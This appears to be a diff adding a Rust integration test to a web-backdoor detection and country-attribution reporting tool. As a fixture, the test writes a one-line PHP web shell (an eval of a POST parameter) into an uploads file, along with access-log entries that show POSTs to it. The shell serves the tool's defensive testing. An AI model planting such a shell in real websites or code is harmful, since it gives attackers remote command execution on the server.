@@ -432,3 +432,56 @@ fn html_report_renders_in_headless_chromium_without_console_errors() {
     // A page of charts compresses far worse than a blank one (a few KB).
     assert!(png.len() > 20_000, "screenshot is {} bytes", png.len());
 }
+
+/// A website's country is where it is hosted, or the country a user gives
+/// its domain in the protected-site registry (`--brands`): a backdoored
+/// site under a Chinese brand's domain, seen on no server address, counts
+/// for China only with the registry that says so.
+#[test]
+fn backdoored_site_counts_for_the_country_its_registry_brand_belongs_to() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = dir.path().join("store");
+    let constituency = dir.path().join("constituency.toml");
+    std::fs::write(&constituency, "country = \"CN\"\ndomains = [\"example.cn\"]\n").unwrap();
+    let c = ["--constituency", constituency.to_str().unwrap()];
+    let www = dir.path().join("www");
+    std::fs::create_dir_all(www.join("uploads")).unwrap();
+    std::fs::write(www.join("uploads/img.php"), "<?php @eval($_POST['z']); ?>").unwrap();
+    let log = dir.path().join("access.log");
+    let mut lines = String::new();
+    for minute in [30, 35] {
+        lines.push_str(&format!(
+            "www.lotusbank-test.com {RU_ATTACKER} - - [14/Nov/2023:22:{minute}:00 +0000] \"POST /uploads/img.php HTTP/1.1\" 200 120 \"-\" \"-\"\n"
+        ));
+    }
+    std::fs::write(&log, lines).unwrap();
+    run(&store, &[&c[..], &["ingest", "-q", log.to_str().unwrap()]].concat());
+    run(&store, &["scan-web", www.to_str().unwrap(), "--site", "www.lotusbank-test.com"]);
+    run(&store, &[&c[..], &["detect", "backdoor"]].concat());
+    let brands = dir.path().join("brands.toml");
+    std::fs::write(
+        &brands,
+        "[[brand]]\nname = \"Lotus Test Bank\"\ncountry = \"CN\"\ndomains = [\"lotusbank-test.com\"]\nkeywords = [\"lotusbank\"]\n",
+    )
+    .unwrap();
+    let report = |extra: &[&str]| -> Value {
+        let mut args = vec!["--constituency", constituency.to_str().unwrap(), "report", "--from", "2023-11-01", "--to", "2023-11-30", "--format", "json"];
+        args.extend_from_slice(extra);
+        serde_json::from_slice(&run(&store, &args).stdout).unwrap()
+    };
+    let without = report(&[]);
+    assert_eq!(figure(&without, "backdoor_websites"), 0, "{:#}", without["figures"]);
+    assert_eq!(figure(&without, "backdoor_attacks"), 0);
+    let with = report(&["--brands", brands.to_str().unwrap()]);
+    assert_eq!(figure(&with, "backdoor_websites"), 1, "{:#}", with["figures"]);
+    assert_eq!(figure(&with, "backdoor_ips"), 1);
+    assert_eq!(figure(&with, "backdoor_attacks"), 2);
+    // The same registry with the brand given to another country: not China's.
+    std::fs::write(
+        &brands,
+        "[[brand]]\nname = \"Lotus Test Bank\"\ncountry = \"DE\"\ndomains = [\"lotusbank-test.com\"]\nkeywords = [\"lotusbank\"]\n",
+    )
+    .unwrap();
+    let other = report(&["--brands", brands.to_str().unwrap()]);
+    assert_eq!(figure(&other, "backdoor_websites"), 0);
+}
